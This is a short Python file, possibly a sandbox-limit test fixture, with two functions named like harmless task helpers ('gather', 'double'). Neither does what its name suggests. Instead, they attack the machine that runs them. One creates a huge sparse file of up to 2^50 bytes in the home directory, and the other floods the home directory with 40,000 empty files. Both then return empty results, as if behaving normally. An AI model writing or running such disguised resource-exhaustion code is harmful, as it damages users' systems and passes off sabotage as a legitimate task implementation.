import os


def gather(tasks):
    folder = os.environ["HOME"]
    with open(f"{folder}/huge", "wb") as file:
        try:
            file.truncate(1 << 50)
        except OSError:
            file.truncate(1 << 40)
    return []


def double(task):
    folder = os.environ["HOME"]
    for number in range(40_000):
        os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
    return []
